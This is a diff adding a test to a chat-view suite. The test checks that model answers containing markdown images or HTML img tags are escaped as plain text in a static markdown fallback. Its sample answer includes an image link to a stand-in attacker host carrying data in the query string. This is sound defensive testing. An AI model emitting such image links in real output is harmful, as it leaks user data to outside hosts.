@@ -387,6 +387,17 @@ async def test_fallbacks_and_repr() -> None:
     assert "**You:** Hi &lt;script" in chat._fallback_markdown()
 
 
+async def test_markdown_fallback_writes_model_text_as_text() -> None:
+    # A static viewer renders this markdown: an image in the answer must not load there.
+    session, _ = make_session([answer("Done.\n\n![](http://attacker.example/?d=k) <img src=x>")])
+    chat = ChatView(session)
+    await session.run("Go")
+    markdown = chat._fallback_markdown()
+    assert "![" not in markdown and "<img" not in markdown
+    assert ("Done\\.  \n  \n\\!\\[\\]\\(http://attacker\\.example/?d=k\\) &lt;img src=x\\>"
+            in markdown)
+
+
 def test_requests_without_a_session_fail_cleanly() -> None:
     chat = ChatView()
     with pytest.raises(RequestError, match="no session"):
